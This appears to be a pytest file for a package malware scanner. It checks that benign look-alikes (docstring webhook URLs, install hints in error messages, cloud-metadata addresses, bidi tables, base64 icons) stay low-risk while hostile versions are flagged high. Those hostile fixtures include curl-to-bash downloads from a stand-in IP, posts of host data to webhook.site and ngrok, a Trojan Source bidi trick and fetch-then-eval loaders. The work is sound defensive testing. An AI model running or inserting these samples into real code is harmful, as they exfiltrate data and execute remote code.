"""More shapes of popular releases that cried wolf (tune data of issue #15), each read as what it
is: a literal's place is the place of the code it sits in, a docstring's URL and a data list's
domains are mentions, a private address receives nothing from outside, a program started by
name is not the file just downloaded, a lone bidi character in a table reorders no code. Each
test keeps the malicious shape of the same code at high.
"""

from __future__ import annotations

from app.core.archive import open_artifact
from app.core.capabilities.scan import scan_artifact
from tests.core.archive.fixtures import make_wheel

HIGH = ("high", "critical")


def _scan(tmp_path, files, sub="a"):
    folder = tmp_path / sub
    folder.mkdir()
    return scan_artifact(open_artifact(make_wheel(folder, name="pkg", files=files)))


def _ids(res):
    return {t.id for t in res.threats if t.severity in HIGH}


def test_a_browser_path_in_a_function_is_not_import_time(tmp_path):
    """A cookie importer names browser profile folders inside the function a user calls; the
    same names read as the module loads are a stealer's first step."""
    helper = (
        b"import os\n"
        b"def chrome_profile():\n"
        b"    base = os.environ.get('LOCALAPPDATA', '')\n"
        b"    return os.path.join(base, 'Google\\\\Chrome\\\\User Data')\n"
    )
    res = _scan(tmp_path, {"pkg/cookies.py": helper})
    hits = [h for h in res.findings if h.capability == "cred.browser_data"]
    assert hits and all(h.place == "" for h in hits)
    assert "place.import_time" not in _ids(res)
    assert res.risk.level not in HIGH

    on_load = (
        helper
        + b"PROFILE = os.path.join(os.environ['LOCALAPPDATA'], 'Google\\\\Chrome\\\\User Data')\n"
    )
    res = _scan(tmp_path, {"pkg/cookies.py": on_load}, "b")
    assert any(h.place == "import" for h in res.findings if h.capability == "cred.browser_data")
    assert "place.import_time" in _ids(res)


def test_a_shell_installer_line_returned_by_a_function_is_not_a_download_chain(tmp_path):
    """A self-updater returns ``curl … | sh`` for the user's update command; the same line run
    by the function stays a download that is executed."""
    updater = (
        b"def update_command():\n"
        b"    return ['bash', '-c', 'curl -LsSf https://example.invalid/install.sh | bash']\n"
    )
    res = _scan(tmp_path, {"pkg/update.py": updater})
    assert any(h.capability == "process.shell_download" for h in res.findings)
    assert "chain.download_execute" not in _ids(res)
    assert res.risk.level not in HIGH

    runs = (
        b"import os\n"
        b"def update():\n"
        b"    os.system('curl -LsSf http://203.0.113.7/install.sh | bash')\n"
    )
    res = _scan(tmp_path, {"pkg/update.py": runs}, "b")
    assert "chain.download_execute" in _ids(res)


def test_an_install_command_quoted_in_a_message_is_an_instruction(tmp_path):
    """An import that fails tells the user "install it with: curl … | sh"; a module that holds
    the bare command line on load, or runs it, keeps the download chain."""
    message = (
        b"try:\n"
        b"    import beamtool\n"
        b"except ImportError as e:\n"
        b"    raise ImportError(\n"
        b"        'beamtool is missing. Please install it with: '\n"
        b"        'curl -sSfL https://example.invalid/get.sh | sh'\n"
        b"    ) from e\n"
    )
    res = _scan(tmp_path, {"pkg/__init__.py": message})
    assert any(h.capability == "process.shell_download" for h in res.findings)
    assert "chain.download_execute" not in _ids(res)
    assert res.risk.level not in HIGH

    held = b"CMD = 'curl -sSfL http://203.0.113.7/get.sh | sh'\n"
    res = _scan(tmp_path, {"pkg/__init__.py": held}, "b")
    assert "chain.download_execute" in _ids(res)


def test_a_webhook_url_in_a_docstring_is_an_example_not_an_endpoint(tmp_path):
    """A webhooks API documents itself with a request-catcher URL; posting there is exfiltration."""
    documented = (
        b"def create_webhook(url: str):\n"
        b'    """Create a webhook.\n\n'
        b"    >>> create_webhook(url='https://webhook.site/0b7e1c3a-aaaa-bbbb-cccc-1234567890ab')\n"
        b'    """\n'
        b"    return {'url': url}\n"
    )
    res = _scan(tmp_path, {"pkg/hooks.py": documented})
    assert any(h.capability == "net.exfil_endpoint" for h in res.findings)
    assert "chain.exfil_endpoint" not in _ids(res)
    assert res.risk.level not in HIGH

    posts = (
        b"import requests, socket\n"
        b"def report():\n"
        b"    requests.post('https://webhook.site/0b7e1c3a-aaaa-bbbb-cccc-1234567890ab',\n"
        b"                  data={'host': socket.gethostname()})\n"
    )
    res = _scan(tmp_path, {"pkg/hooks.py": posts}, "b")
    assert {"chain.exfil_endpoint", "chain.exfiltration"} & _ids(res)


def test_a_private_or_cloud_metadata_address_is_not_an_exfiltration_endpoint(tmp_path):
    """Experiment trackers read the cloud metadata service (169.254.169.254) and name LAN
    exporters beside the host name; a public bare IP beside the host name is a callback."""
    tracker = (
        b"import socket, requests\n"
        b"METADATA = 'http://169.254.169.254/latest/dynamic/instance-identity/document'\n"
        b"EXPORTER = 'http://192.168.0.1:9400/metrics'\n"
        b"def host():\n"
        b"    return socket.gethostname()\n"
        b"def instance():\n"
        b"    return requests.get(METADATA, timeout=1).json()\n"
    )
    res = _scan(tmp_path, {"pkg/env.py": tracker})
    assert not [h for h in res.findings if h.capability == "net.exfil_endpoint"]
    assert res.risk.level not in HIGH

    callback = tracker.replace(b"192.168.0.1:9400", b"203.0.113.7:9400")
    res = _scan(tmp_path, {"pkg/env.py": callback}, "b")
    assert "chain.exfiltration" in _ids(res)


def test_a_program_started_by_name_after_a_download_is_not_running_the_download(tmp_path):
    """A browser downloader fetches a zip and hands it to ``unzip``; starting the downloaded
    file itself (or handing it to a shell) is a download that is run."""
    unpack = (
        b"import subprocess, urllib.request\n"
        b"def fetch(url, path):\n"
        b"    with urllib.request.urlopen(url) as r, open(path, 'wb') as f:\n"
        b"        f.write(r.read())\n"
        b"    subprocess.run(['unzip', str(path)], check=True)\n"
    )
    res = _scan(tmp_path, {"pkg/fetch.py": unpack})
    assert any(h.capability == "net.download_to_disk" for h in res.findings)
    assert "chain.download_execute" not in _ids(res)
    assert res.risk.level not in HIGH

    for n, run in enumerate((b"[str(path)]", b"['sh', str(path)]")):
        runs = unpack.replace(b"['unzip', str(path)]", run)
        res = _scan(tmp_path, {"pkg/fetch.py": runs}, f"run{n}")
        assert "chain.download_execute" in _ids(res), run
    # a bare name that the code also writes as a file (Windows starts it from the folder)
    named = unpack.replace(b"open(path, 'wb')", b"open('update.exe', 'wb')").replace(
        b"['unzip', str(path)]", b"['update']"
    )
    res = _scan(tmp_path, {"pkg/fetch.py": named}, "named")
    assert "chain.download_execute" in _ids(res)


def test_a_bidi_character_alone_in_a_table_entry_is_not_a_trick(tmp_path):
    """Keyboard and font tables map names to characters, the bidi controls among them; a
    control with code after it on its line makes the line read differently than it runs."""
    table = 'NAMES = {\n    "rlo": "\u202e",\n    "pdf": "\u202c",\n}\n'.encode()
    res = _scan(tmp_path, {"pkg/names.py": table})
    assert "disguise.unicode" not in _ids(res)
    assert res.risk.level not in HIGH

    trojan = 'def is_admin(level):\n    return level != "user\u202e \u2066# admin\u2069 \u2066"\n'
    res = _scan(tmp_path, {"pkg/names.py": trojan.encode()}, "b")
    assert "disguise.unicode" in _ids(res)


def test_a_domain_list_in_a_data_file_is_a_list_not_an_endpoint(tmp_path):
    """A public-suffix list ships tunnel services' domains among thousands; code that talks to
    a tunnel host is an exfiltration endpoint."""
    psl = b"// ===BEGIN PRIVATE DOMAINS===\nngrok.io\n*.ngrok.io\ntrycloudflare.com\n"
    res = _scan(tmp_path, {"pkg/__init__.py": b"", "pkg/public_suffix_list.dat": psl})
    assert "chain.exfil_endpoint" not in _ids(res)
    assert res.risk.level not in HIGH

    code = b"import requests\nrequests.post('https://abc123.ngrok.io/up', data=open('x').read())\n"
    res = _scan(tmp_path, {"pkg/__init__.py": code}, "b")
    assert "chain.exfil_endpoint" in _ids(res)


def _bundle(blob: str) -> bytes:
    return (
        "var icon = 'data:image/svg+xml;base64," + blob + "';\n"
        "function compile(args, body) { return new Function(args, body); }\n"
        "module.exports = { icon: icon, compile: compile };\n"
    ).encode()


def test_an_inlined_icon_or_number_table_beside_a_template_compiler_is_not_a_payload(tmp_path):
    """Web bundles inline SVG icons as base64 and pack lookup tables as hex beside a template
    compiler's ``new Function``; base64 that decodes to code beside it stays a disguise."""
    import base64

    svg = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 16 16">' + (
        '<path d="M1 1h14v14H1z" fill="#fff"/>' * 40
    )
    icon = base64.b64encode(svg.encode()).decode()
    table = bytes(range(256)).hex() * 3  # numbers packed as bytes, like a colour table
    for n, blob in enumerate((icon, table)):
        res = _scan(tmp_path, {"pkg/static/bundle.js": _bundle(blob)}, f"benign{n}")
        assert any(h.capability == "obf.encoded_blob" for h in res.findings), n
        assert "disguise.encoded_exec" not in _ids(res), n

    code = "require('child_process').exec('id > /tmp/x');\n" * 40
    hidden = base64.b64encode(code.encode()).decode()
    res = _scan(tmp_path, {"pkg/static/bundle.js": _bundle(hidden)}, "payload")
    assert "disguise.encoded_exec" in _ids(res)


def test_a_domain_that_ends_in_a_webhook_host_name_is_another_domain(tmp_path):
    """``nothooks.slack.com`` (a doc's deliberately fake host) is not Slack's webhook host."""
    field = (
        b"HELP = \"e.g. `{'alerts': 'https://nothooks.slack.com/services/T0000/B0000/XXXX'}`\"\n"
    )
    res = _scan(tmp_path, {"pkg/types.py": field})
    assert not [h for h in res.findings if h.capability == "net.exfil_endpoint"]
    assert res.risk.level not in HIGH

    real = b"import requests\nrequests.post('https://hooks.slack.com/services/T0000/B0000/XXXX', json={})\n"
    res = _scan(tmp_path, {"pkg/types.py": real}, "b")
    assert "chain.exfil_endpoint" in _ids(res)


def test_a_builtin_looked_up_by_name_with_a_fallback_is_not_a_disguise(tmp_path):
    """Rebuilding an exception named in stored data: ``getattr(builtins, name, ValueError)``.
    Without a fallback, a builtin reached through a name computed at run time stays hidden."""
    lookup = (
        b"import builtins\n"
        b"def rebuild(step):\n"
        b"    exc = getattr(builtins, str(step.get('error')), ValueError)\n"
        b"    return exc(step.get('message'))\n"
    )
    res = _scan(tmp_path, {"pkg/errors.py": lookup})
    assert "disguise.obfuscation" not in _ids(res)
    assert res.risk.level not in HIGH

    hidden = b"import builtins\ndef run(cfg, payload):\n    getattr(builtins, cfg['n'])(payload)\n"
    res = _scan(tmp_path, {"pkg/errors.py": hidden}, "b")
    assert "disguise.obfuscation" in _ids(res)


def test_a_served_bundle_evaluating_a_script_from_a_url_it_is_handed_is_a_loader(tmp_path):
    """A web app's bundle (under static/) loads its own worker scripts: fetch(url) then eval,
    the URL handed in by the page. A hard-coded address there, or the same loader in code that
    runs outside a browser, stays remote code execution. (The text rules read bundles the tree
    cannot parse: the last line is one no parser takes.)"""
    loader = (
        "async function loadWorker(t){let e=await fetch(t,{credentials:'same-origin'});"
        "if(!e.ok)throw Error('Failed to load '+t);let r=await e.text();globalThis.eval(r)}\n"
        "module.exports = loadWorker;\nlet = = ;\n"
    )
    res = _scan(tmp_path, {"pkg/static/js/worker.js": loader.encode()})
    assert any(h.capability == "exec.remote_code" for h in res.findings)
    assert "chain.remote_exec" not in _ids(res)
    assert res.risk.level not in HIGH

    fixed = loader.replace("fetch(t,", "fetch('https://203.0.113.7/w.js',")
    res = _scan(tmp_path, {"pkg/static/js/worker.js": fixed.encode()}, "b")
    assert "chain.remote_exec" in _ids(res)
    res = _scan(tmp_path, {"pkg/lib/worker.js": loader.encode()}, "c")
    assert "chain.remote_exec" in _ids(res)
